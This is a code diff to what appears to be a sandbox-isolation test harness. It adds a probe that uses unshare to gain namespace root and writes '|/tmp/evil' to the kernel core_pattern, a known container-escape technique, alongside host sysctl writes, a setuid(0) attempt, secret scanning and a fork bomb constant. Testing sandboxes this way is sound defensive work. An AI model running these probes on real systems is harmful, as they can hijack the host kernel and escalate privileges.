@@ -45,6 +45,7 @@ HOST_FILES = (
     "/proc/sys/vm/overcommit_memory",
     "/proc/sys/vm/swappiness",
     "/sys/kernel/mm/transparent_hugepage/enabled",
+    "/sys/kernel/mm/transparent_hugepage/defrag",
     "/sys/kernel/mm/ksm/run",
 )
 PERSIST = ("/dev/shm/carpentry-persist", "/tmp/carpentry-persist")
@@ -91,7 +92,7 @@ except sqlite3.Error as error:
 print('SECRETS', sorted(set(found)))
 """
 HOST_WRITES = f"""
-import os
+import os, subprocess
 written = []
 for target in {HOST_FILES!r}:
     try:
@@ -108,6 +109,13 @@ try:
     written.append('setuid(0)')
 except OSError:
     pass
+# root in a new user namespace of its own, with a sysfs of its own network namespace
+nested = ('echo "|/tmp/evil" > /proc/sys/kernel/core_pattern || mkdir -p /tmp/s && mount -t sysfs sysfs /tmp/s '
+          '&& echo 1 > /tmp/s/kernel/mm/ksm/run && echo 2 > /tmp/s/kernel/mm/transparent_hugepage/defrag')
+done = subprocess.run(['unshare', '--user', '--map-root-user', '--mount', '--net', 'sh', '-c', nested],
+                      capture_output=True, text=True)
+if done.returncode == 0:
+    written.append('nested namespace: ' + done.stdout + done.stderr)
 print('HOSTWRITES', written, os.getuid())
 """
 FORK_BOMB = r"""
